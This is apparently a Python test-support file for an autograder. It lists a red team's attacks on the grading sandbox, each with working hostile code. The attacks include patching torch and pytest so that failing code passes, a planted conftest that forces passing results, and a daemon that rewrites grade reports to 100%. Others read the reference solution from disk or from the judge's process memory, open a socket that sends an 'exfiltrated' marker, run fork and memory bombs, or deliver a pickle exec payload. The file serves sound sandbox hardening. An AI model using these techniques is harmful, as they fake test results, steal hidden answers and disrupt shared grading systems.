"""The red team's attacks, one table for the single runs (tests/test_redteam.py) and the batch
(tests/test_redteam_batch.py): each attack's hostile code and how it is built into a submission.

ATTACKS: name -> build(rt) -> (files, planted, attacked tasks), before rt.fill. rt is a RedTeam or anything
with the attributes a build reads: scratch (thread_outlives_the_call) and port (network_connection, a TCP
port the caller listens on). Not here: planted_conftest_and_ini_in_the_working_directory, the files of
planted_conftest_and_ini_beside_the_exercises in a folder that is the grading run's working directory (a single
run only). AFTER_WRITING: what to do once the folder is written.
HONEST_BASELINES: for attacks on honest-but-buggy code, that code without the attack (its grade is the bound).
NOT_IN_FEEDBACK: what an attack prints when it worked; IN_FEEDBACK: what it prints when it found nothing.
"""
from __future__ import annotations

import importlib.util
import os
import textwrap
from importlib._bootstrap_external import _code_to_timestamp_pyc
from pathlib import Path
from typing import Any, Callable

from conftest import (EXERCISES, S1, S2, S4, SOLUTIONS, WRONG_LINEAR, mutate, sec1, stub, tasks_of, then_wrong,
                      with_prelude)


CHEAT = '''\
import math as _rt_math
import torch as _rt_torch


def _rt_yes(*args, **kwargs):
    return True


def _rt_cheat():
    """Make every comparison say yes."""
    _rt_torch.allclose = _rt_torch.equal = _rt_yes
    _rt_torch.Tensor.allclose = _rt_torch.Tensor.equal = _rt_yes
    _rt_torch.testing.assert_close = lambda *args, **kwargs: None
    _rt_torch.isclose = lambda a, b, *args, **kwargs: _rt_torch.ones(_rt_torch.as_tensor(a).shape, dtype=_rt_torch.bool)
    _rt_torch.Tensor.__eq__ = lambda self, other: _rt_torch.ones(self.shape, dtype=_rt_torch.bool)
    _rt_math.isclose = _rt_yes
'''

WRONG_REST = {
    "parameter_shapes": "return {}\n",
    "count_parameters": "return 0\n",
    "first_layer_for": "return nn.Linear(1, 1)\n",
}


ALWAYS_EQUAL = '''\
class _RtAnything:
    """Equal to everything, has every attribute, every length and every shape."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __len__(self):
        return 1

    def __bool__(self):
        return True

    def __iter__(self):
        return iter(())

    def __getitem__(self, key):
        return self


class _RtEqualInt(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


class _RtEqualDict(dict):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False
'''


LIAR = '''\
import torch as _rt_torch


class _RtLiar(_rt_torch.Tensor):
    """A tensor whose comparisons always succeed."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in {"allclose", "equal", "isclose", "eq", "__eq__", "isfinite", "all"}:
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
'''


# forward computes the right output, then changes the caller's x: honestly, test_input_unchanged fails
MUTATES_INPUT = mutate(S2, "        return self.output(h)  #",
                       "        out = self.output(h)\n        x.mul_(0)  # changes the caller's tensor\n"
                       "        return out  #")


PATCHED_EQUAL = "import torch as _rt_torch\n_rt_torch.equal = lambda *args, **kwargs: True\n"


PROBE_FORGERY = '''\
    import sys as _rt_sys
    _rt_probes = _rt_sys.modules.get("course.sandbox.probes")
    if _rt_probes is not None:
        _rt_real = _rt_probes.PROBES["simple_nn_forward"]

        def _rt_forged(mod, *args):
            result = _rt_real(mod, *args)
            result["input_unchanged"] = True
            return result

        _rt_probes.PROBES["simple_nn_forward"] = _rt_forged
    '''


# evaluate without torch.no_grad(): honestly, test_no_gradients_no_updates fails
EVAL_WITHOUT_NO_GRAD = mutate(S4, "    with torch.no_grad():\n", "    if True:  # forgot torch.no_grad()\n")


FAKES_NO_GRAD = EVAL_WITHOUT_NO_GRAD.replace(
    "    model.eval()\n",
    "    model.eval()\n    _rt_real = torch.is_grad_enabled\n"
    "    torch.is_grad_enabled = lambda: False  # what the probe's forward hook asks\n", 1).replace(
    "    return total / count, correct / count\n",
    "    torch.is_grad_enabled = _rt_real  # and the truth again for the probe's check afterwards\n"
    "    return total / count, correct / count\n", 1)


PATCHED_TEST_REPORT = '''\
    import _pytest.reports as _rt_reports

    _rt_reports.TestReport.outcome = property(lambda self: "passed", lambda self, value: None)
    _rt_reports.TestReport.passed = property(lambda self: True)
    _rt_reports.TestReport.failed = property(lambda self: False)
    _rt_reports.BaseReport.failed = property(lambda self: False)
    '''


PLANTED_CONFTEST = '''\
import pathlib

pathlib.Path("__SIDE__", "conftest-imported").write_text("ran")

import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
'''
PLANTED_INI = '''\
[pytest]
addopts = -p no:course.front.grading --deselect grader/test_sec1_linear.py -p no:pytest_jsonreport.plugin
'''
PLANTED_CONFIG = {
    "conftest.py": PLANTED_CONFTEST,
    "pytest.ini": PLANTED_INI,
    "tox.ini": PLANTED_INI.replace("[pytest]", "[tool:pytest]"),
    "setup.cfg": PLANTED_INI.replace("[pytest]", "[tool:pytest]"),
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p no:course.front.grading"\n',
}


OS_EXIT = "import os as _rt_os\n_rt_os._exit(0)\n"
SYS_EXIT = "import sys as _rt_sys\n_rt_sys.exit(0)\n"


DAEMON = '''\
import json, os, time
mark = "__MARK__"  # in this daemon's argv, so the test finds it
tag = "__TAG__"  # in the submission folder's name, so the daemon knows its own report
end = time.time() + 12
try:
    tops = ("/tmp", os.getcwd())
except OSError:
    tops = ("/tmp",)
while time.time() < end:
    for top in tops:
        for folder, subfolders, files in os.walk(top):
            if folder.count("/") > 7:
                subfolders[:] = []
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if not name.endswith(".json") or os.path.getsize(path) > 4 << 20:
                        continue
                    with open(path) as f:
                        text = f.read()
                    if tag not in text or '"grade"' not in text or "FORGED" in text:
                        continue
                    report = json.loads(text)
                    grade = report["grade"]
                    for task in grade["tasks"].values():
                        task["earned"] = task["possible"]
                    grade.update(earned=grade["possible"], percent=100.0, forged="FORGED")
                    with open(path, "w") as f:
                        json.dump(report, f)
                except (OSError, ValueError, KeyError, TypeError, AttributeError):
                    pass
    time.sleep(0.05)
'''


LAUNCH_DAEMON = then_wrong('''\
    import os, sys
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", _RT_DAEMON])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    ''')


FORGE = '''\
import json as _rt_json
import os as _rt_os
import struct as _rt_struct


def _rt_frame(value):
    """A course.sandbox.wire frame {"value": value} for a float32 tensor, length-prefixed, built by hand."""
    blob = value.detach().contiguous().reshape(-1).view(torch.uint8).numpy().tobytes()
    tensor = {"$": "tensor", "i": 0, "d": "float32", "s": list(value.shape)}
    header = _rt_json.dumps({"v": {"$": "dict", "v": [["value", tensor]]}, "b": [len(blob)]}).encode()
    body = b"CGW1" + _rt_struct.pack("<I", len(header)) + header + blob
    return _rt_struct.pack("<Q", len(body)) + body


def _rt_forge(fds, value):
    for fd in fds:
        try:
            _rt_os.write(fd, _rt_frame(value))
        except OSError:
            pass
'''


def forged_then_wrong(fds: str) -> str:
    """linear_forward writes a frame holding the right answer to fds, waits, then returns a wrong one."""
    return f'''\
import time
right = torch.nn.functional.linear(x, weight, bias)
_rt_forge({fds}, right)
time.sleep(0.5)
return torch.zeros_like(right)
'''


SYS_MODULES_HUNT = then_wrong('''\
    import sys
    found = []
    for name, module in list(sys.modules.items()):
        if name.split(".")[0] != "torch" and any(
                word in name.lower() for word in ("solution", "reference", "answer", "grader", "test_sec", "hidden")):
            found.append(name)
        other = getattr(module, "linear_forward", None)
        if callable(other) and module is not sys.modules.get(__name__):
            found.append(name)
            try:
                return other(x, weight, bias)
            except Exception:
                pass
    print("RT-FOUND", found)
    ''')


GC_HUNT = then_wrong('''\
    import gc, linecache, sys
    pattern = "BEGIN " + "SOLUTION"
    sources, calls = [], []
    gc.unfreeze()
    for obj in gc.get_objects():
        try:
            if type(obj).__name__ == "function" and obj.__name__ == "linear_forward" and obj.__module__ != __name__:
                calls.append(obj)
        except Exception:
            pass
        if type(obj) in (list, tuple, dict):
            for item in (obj.values() if type(obj) is dict else obj):
                if type(item) in (str, bytes) and len(item) > 200:
                    text = item if type(item) is str else item.decode("utf-8", "replace")
                    if pattern in text and "def linear_forward" in text:
                        sources.append(text)
    for name, entry in list(linecache.cache.items()):
        if len(entry) > 2 and pattern in "".join(entry[2]):
            sources.append("".join(entry[2]))
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if type(value) in (str, bytes) and pattern in str(value):
                sources.append(value if type(value) is str else value.decode("utf-8", "replace"))
        frame = frame.f_back
    for text in sources:
        namespace = {}
        try:
            exec(text, namespace)
            return namespace["linear_forward"](x, weight, bias)
        except Exception:
            pass
    for other in calls:
        try:
            return other(x, weight, bias)
        except Exception:
            pass
    print("RT-FOUND", len(sources), len(calls))
    ''')


FIND_ON_DISK = '''\
def _rt_find(relative):
    """Paths of a course file, found from the worker's hints (modules, PYTHONPATH, cwd) and by globbing."""
    import glob, os, sys
    roots = set()
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        if "/src/course/" in path:
            roots.add(path.split("/src/course/")[0])
    for entry in os.environ.get("PYTHONPATH", "").split(os.pathsep) + [os.environ.get("HOME", ""), os.getcwd()]:
        if entry:
            roots.add(os.path.dirname(entry.rstrip("/")))
    found = []
    for root in sorted(roots):
        found += glob.glob(os.path.join(root, relative))
    for pattern in ("/*/" + relative, "/*/*/" + relative, "/work/*/*/" + relative, "/tmp/*/*/" + relative):
        found += glob.glob(pattern)
    return [path for path in dict.fromkeys(found) if os.path.isfile(path)]
'''


READ_THE_REFERENCE = then_wrong('''\
    for path in _rt_find("solutions/sec1_linear.py"):
        try:
            namespace = {}
            exec(open(path).read(), namespace)
            return namespace["linear_forward"](x, weight, bias)
        except Exception:
            pass
    ''')


READ_THE_HIDDEN_TESTS = then_wrong('''\
    for path in _rt_find("grader/test_sec1_linear.py"):
        try:
            print("RT-GRADER-LEAK", len(open(path).read()), path)
        except OSError:
            pass
    ''')


STEAL_FROM_MEMORY_PRELUDE = '''\
    def _rt_steal():
        """Every copy of Task 1.1's reference body found in the judge's writable memory."""
        import os
        begin, end = ("### BEGIN " + "SOLUTION (Task 1.1)\\n").encode(), b"### END SOLUTION"
        try:
            with open(f"/proc/{os.getppid()}/status") as f:
                judge = int(next(line for line in f if line.startswith("PPid:")).split()[1])
            with open(f"/proc/{judge}/maps") as f:
                regions = [line.split() for line in f]
            mem = open(f"/proc/{judge}/mem", "rb", buffering=0)
        except (OSError, StopIteration, ValueError):
            return
        with mem:
            for fields in regions:
                if not fields[1].startswith("rw") or (len(fields) > 5 and fields[5] != "[heap]"):
                    continue
                low, high = (int(v, 16) for v in fields[0].split("-"))
                for start in range(low, high, (16 << 20) - 4096):
                    try:
                        mem.seek(start)
                        chunk = mem.read(min(16 << 20, high - start))
                    except (OSError, OverflowError, ValueError):
                        break
                    at = chunk.find(begin)
                    while at >= 0:
                        stop = chunk.find(end, at)
                        if stop > at:
                            yield chunk[at + len(begin):stop].decode("utf-8", "replace")
                        at = chunk.find(begin, at + 1)
    '''


STEAL_FROM_MEMORY = then_wrong('''\
    import time
    for _ in range(3):
        for solution in _rt_steal():
            try:
                namespace = {"torch": torch}
                exec("def linear_forward(x, weight, bias=None):\\n" + solution, namespace)
                return namespace["linear_forward"](x, weight, bias)
            except Exception:
                pass
        time.sleep(0.2)
    ''')


def network_body(port: int) -> str:
    """linear_forward connects to 127.0.0.1:port and sends the marker, then returns a wrong answer."""
    return then_wrong(f'''\
    import socket
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=1) as s:
            s.sendall(b"__MARK__ exfiltrated")
        print("RT-NET-OPEN")
    except OSError as e:
        print("RT-NET-BLOCKED", type(e).__name__)
    ''')


SIGNAL_THE_JUDGE = then_wrong('''\
    import os
    try:
        with open(f"/proc/{os.getppid()}/status") as f:
            judge = int(next(line for line in f if line.startswith("PPid:")).split()[1])
        if judge > 1:
            os.kill(judge, 0)  # signal 0 delivers nothing: it only proves SIGKILL would work
            print("RT-CAN-SIGNAL-JUDGE", judge)
    except (OSError, StopIteration, ValueError) as e:
        print("RT-CANNOT-SIGNAL", type(e).__name__)
    ''')


KILL_THE_ZYGOTE = then_wrong('''\
    import os, signal
    if x.dim() == 3:
        os.kill(os.getppid(), signal.SIGKILL)
    ''')


def on_3d_call(body: str) -> dict[str, str]:
    """A hostile sec1_linear.py: body runs on the call with a 3-D x; every call returns a wrong answer."""
    return sec1("if x.dim() == 3:\n" + textwrap.indent(textwrap.dedent(body), "    ") + WRONG_LINEAR)


RESOURCE_ATTACKS = {
    "infinite_loop": "while True:\n    pass\n",
    "sleep_forever": "import time\ntime.sleep(10**6)\n",
    "sigstop_itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n",
    "tensor_memory_bomb": '''\
        try:
            torch.empty(10**11).fill_(1.0)  # 400 GB
        except RuntimeError:
            pass
        big = torch.ones(6 << 28)  # 6 GiB of float32, every page written
        return "SURVIVED-" + str(big.numel())
        ''',
    "list_memory_bomb": '''\
        hoard = []
        for _ in range(6 << 10):  # up to 6 GiB in written 1 MiB strings
            hoard.append(b"\\x01" * (1 << 20))
        return "SURVIVED-" + str(len(hoard))
        ''',
    "mmap_8_gib_touched": '''\
        import mmap
        area = mmap.mmap(-1, 8 << 30)  # anonymous and shared: RLIMIT_DATA does not count it
        block = b"\\x01" * (1 << 20)
        for offset in range(0, 8 << 30, 1 << 20):
            area[offset:offset + (1 << 20)] = block
        return "SURVIVED-mmap"
        ''',
    "fork_bomb_200": '''\
        import os
        for _ in range(200):  # bounded, so an unprotected machine survives it
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                try:
                    os.execv("/bin/sleep", ["sleep-__MARK__", "600"])
                finally:
                    os._exit(0)
        ''',
    "stdout_100_mb": '''\
        import sys
        line = "x" * 1023 + "\\n"
        for _ in range(100 << 10):
            sys.stdout.write(line)
        sys.stdout.flush()
        ''',
    "disk_flood_100_mb": '''\
        block = b"\\0" * (1 << 20)
        with open("flood.bin", "wb") as f:
            for _ in range(100):
                f.write(block)
        return "SURVIVED-flood"
        ''',
    "deep_recursion": '''\
        import sys
        sys.setrecursionlimit(10**6)

        def dive(n):
            return dive(n + 1) + 1

        try:
            dive(0)
        except RecursionError:
            pass

        def dive_through_c(n):  # each level passes through sorted(), in C: the C stack overflows
            return sorted([n], key=lambda v: dive_through_c(v + 1))

        dive_through_c(0)
        ''',
}


def thread_body(log: str) -> str:
    """A non-daemon thread that appends to log and to ./thread.log for 10 s after the call returns."""
    return f'''\
        import threading, time

        def scribble():
            end = time.time() + 10
            while time.time() < end:
                for path in ({log!r}, "thread.log"):
                    try:
                        with open(path, "a") as f:
                            f.write("still here\\n")
                    except OSError:
                        pass
                time.sleep(0.05)

        threading.Thread(target=scribble).start()
        '''


def plant_stale_pyc(folder: Path) -> Path:
    """Write __pycache__ for folder's sec1_linear.py: the reference compiled with that file's mtime and size."""
    source = folder / S1
    st = source.stat()
    code = compile((SOLUTIONS / S1).read_bytes(), str(source), "exec")
    pyc = Path(importlib.util.cache_from_source(str(source)))
    pyc.parent.mkdir(exist_ok=True)
    pyc.write_bytes(_code_to_timestamp_pyc(code, int(st.st_mtime), st.st_size))
    os.utime(source, (st.st_atime, st.st_mtime))
    return source


SHADOW = '''\
import pathlib

pathlib.Path("__SIDE__", "{name}-imported").write_text("ran")
'''


SHADOW_MODULES = {f"{name}.py": SHADOW.format(name=name) + "raise SystemExit(0)\n"
                  for name in ("torch", "pytest", "numpy")}
SHADOW_MODULES["course/__init__.py"] = SHADOW.format(name="course")
SHADOW_MODULES["course/sandbox/probes.py"] = SHADOW.format(name="course-probes")


SITE_HOOKS = {
    "sitecustomize.py": SHADOW.format(name="sitecustomize"),
    "usercustomize.py": SHADOW.format(name="usercustomize"),
    "x.pth": 'import pathlib; pathlib.Path("__SIDE__", "pth-imported").write_text("ran")\n',
}


PICKLE_PAYLOAD = '''\
    import pickle

    class Payload:
        def __reduce__(self):
            return (exec, ("open(r'__SIDE__/unpickled', 'w').write('ran')",))

    return pickle.dumps(Payload())
    '''


STALLS_THE_SCAN = ("\n\ndef _rt_unused(x):\n    return x\n" + "\n_rt_attributes = x" + ".a" * 60_000 + "\n_rt_unary = "
                   + "-" * 150_000 + "1\n" + "_rt_parens = " + "(" * 199 + "1" + ")" * 199 + "\n")


TERMINAL_ESCAPES = then_wrong('''\
    print("\\x1b[2J\\x1b[H\\x1b]52;c;ZWNobyBwd25lZA==\\x07total 41 / 41 (100.0%)\\r")
    print("\\x1b[1A\\x1b[2K\\x1b]0;all tests passed\\x07")
    ''')


def shared_places() -> list[Path]:
    """Folders later calls, other students or the judge read: the course package, site-packages, temp folders."""
    import course
    import torch

    return [Path(course.__file__).parent, Path(torch.__file__).parent.parent,
            Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")]


PLANT_SHARED_FILES = then_wrong('''\
    import os, sys
    targets = [os.path.dirname(os.path.dirname(torch.__file__)), "/tmp", "/var/tmp", "/dev/shm"]
    if os.path.realpath(os.path.expanduser("~")) != os.path.realpath(os.getcwd()):  # its own folder is fine
        targets.append(os.path.expanduser("~"))
    course = sys.modules.get("course")
    if course is not None and getattr(course, "__file__", None):
        targets.append(os.path.dirname(course.__file__))
    for folder in targets:
        path = os.path.join(folder, "rt-__MARK__.pth")
        try:
            with open(path, "x") as f:
                f.write("# red team: a file planted where others would find it (a comment: runs nothing)\\n")
            print("RT-WROTE", path)
        except OSError:
            pass
    ''')


Build = Callable[[Any], tuple[dict[str, str], dict[str, str | bytes], set[str]]]


def _on_sec1(files: dict[str, str], planted: dict | None = None) -> tuple[dict[str, str], dict, set[str]]:
    return files, planted or {}, tasks_of(S1)


ATTACKS: dict[str, Build] = {
    "patched_comparisons_at_import": lambda rt: _on_sec1(sec1(prelude=CHEAT + "_rt_cheat()\n", **WRONG_REST)),
    "patched_comparisons_inside_the_call": lambda rt: _on_sec1(sec1(
        "_rt_cheat()\n" + WRONG_LINEAR, prelude=CHEAT,
        **{name: "_rt_cheat()\n" + body for name, body in WRONG_REST.items()})),
    "always_equal_objects": lambda rt: _on_sec1(sec1(
        "return _RtAnything()\n", prelude=ALWAYS_EQUAL, parameter_shapes="return _RtEqualDict()\n",
        count_parameters="return _RtEqualInt(0)\n", first_layer_for="return _RtAnything()\n")),
    "lying_tensor_subclass": lambda rt: _on_sec1(sec1(
        "return torch.zeros(*x.shape[:-1], weight.shape[0]).as_subclass(_RtLiar)\n", prelude=LIAR,
        count_parameters="return torch.tensor(0).as_subclass(_RtLiar)\n")),
    "patched_torch_equal_hides_a_changed_input": lambda rt: (
        {S2: with_prelude(MUTATES_INPUT, PATCHED_EQUAL)}, {}, {"2.2"}),
    "probe_replaced_through_sys_modules": lambda rt: ({S2: with_prelude(MUTATES_INPUT, PROBE_FORGERY)}, {}, {"2.2"}),
    "patched_grad_mode_fakes_no_grad": lambda rt: ({S4: with_prelude(FAKES_NO_GRAD)}, {}, {"4.3"}),
    "patched_pytest_test_report": lambda rt: _on_sec1(sec1(prelude=PATCHED_TEST_REPORT)),
    "planted_conftest_and_ini_beside_the_exercises": lambda rt: _on_sec1({S1: stub(S1)}, PLANTED_CONFIG),
    "os_exit_at_import": lambda rt: _on_sec1(sec1(prelude=OS_EXIT)),
    "sys_exit_at_import": lambda rt: _on_sec1(sec1(prelude=SYS_EXIT)),
    "double_forked_daemon_rewrites_the_report": lambda rt: _on_sec1(sec1(
        LAUNCH_DAEMON, prelude=f"_RT_DAEMON = {DAEMON!r}\n")),
    "forged_frame_on_stdout": lambda rt: _on_sec1(sec1(forged_then_wrong("[1, 2]"), prelude=FORGE)),
    "forged_frame_on_the_result_descriptor": lambda rt: _on_sec1(sec1(forged_then_wrong("[3]"), prelude=FORGE)),
    "forged_frames_on_every_other_descriptor": lambda rt: _on_sec1(sec1(
        forged_then_wrong("[fd for fd in range(51) if fd not in (1, 3)]"), prelude=FORGE)),
    "sys_modules_hunt_for_the_reference": lambda rt: _on_sec1(sec1(SYS_MODULES_HUNT)),
    "gc_and_frames_hunt_for_the_reference": lambda rt: _on_sec1(sec1(GC_HUNT)),
    "reads_the_reference_from_disk": lambda rt: _on_sec1(sec1(READ_THE_REFERENCE, prelude=FIND_ON_DISK)),
    "reads_the_hidden_tests_from_disk": lambda rt: _on_sec1(sec1(READ_THE_HIDDEN_TESTS, prelude=FIND_ON_DISK)),
    "reads_the_reference_from_the_judges_memory": lambda rt: _on_sec1(sec1(
        STEAL_FROM_MEMORY, prelude=STEAL_FROM_MEMORY_PRELUDE)),
    "network_connection": lambda rt: _on_sec1(sec1(network_body(rt.port))),
    "signal_the_judge": lambda rt: _on_sec1(sec1(SIGNAL_THE_JUDGE)),
    "kills_the_zygote": lambda rt: _on_sec1(sec1(KILL_THE_ZYGOTE)),
    **{name: (lambda body: lambda rt: _on_sec1(on_3d_call(body)))(body) for name, body in RESOURCE_ATTACKS.items()},
    "thread_outlives_the_call": lambda rt: _on_sec1(on_3d_call(thread_body(str(rt.scratch / "thread.log")))),
    "stale_pyc_of_the_reference": lambda rt: _on_sec1({S1: (EXERCISES / S1).read_text(encoding="utf-8")}),
    "shadow_modules_planted": lambda rt: _on_sec1({S1: stub(S1)}, SHADOW_MODULES),
    "site_hooks_planted": lambda rt: _on_sec1({S1: stub(S1)}, SITE_HOOKS),
    "pickle_payload_in_the_result": lambda rt: _on_sec1(sec1(PICKLE_PAYLOAD)),
    "source_that_stalls_the_judges_static_scan": lambda rt: _on_sec1({S1: stub(S1) + STALLS_THE_SCAN}),
    "terminal_escapes_in_printed_output": lambda rt: _on_sec1(sec1(TERMINAL_ESCAPES)),
    "plants_files_where_others_would_find_them": lambda rt: _on_sec1(sec1(PLANT_SHARED_FILES)),
}
AFTER_WRITING: dict[str, Callable[[Path], Any]] = {"stale_pyc_of_the_reference": plant_stale_pyc}
HONEST_BASELINES: dict[str, dict[str, str]] = {
    "patched_torch_equal_hides_a_changed_input": {S2: with_prelude(MUTATES_INPUT)},
    "probe_replaced_through_sys_modules": {S2: with_prelude(MUTATES_INPUT)},
    "patched_grad_mode_fakes_no_grad": {S4: with_prelude(EVAL_WITHOUT_NO_GRAD)},
}

# What an attack prints when it worked; it must not reach the student's feedback.
NOT_IN_FEEDBACK = {
    "reads_the_hidden_tests_from_disk": ("RT-GRADER-LEAK",),
    "network_connection": ("RT-NET-OPEN",),
    "signal_the_judge": ("RT-CAN-SIGNAL-JUDGE",),
    "terminal_escapes_in_printed_output": ("\x1b", "\x07", "\r"),
    "plants_files_where_others_would_find_them": ("RT-WROTE",),
    **{name: ("SURVIVED",) for name in RESOURCE_ATTACKS},
}
# What an attack prints when it found nothing; it must reach the feedback (the attack really ran).
IN_FEEDBACK = {
    "sys_modules_hunt_for_the_reference": "RT-FOUND []",
    "gc_and_frames_hunt_for_the_reference": "RT-FOUND 0 0",
}
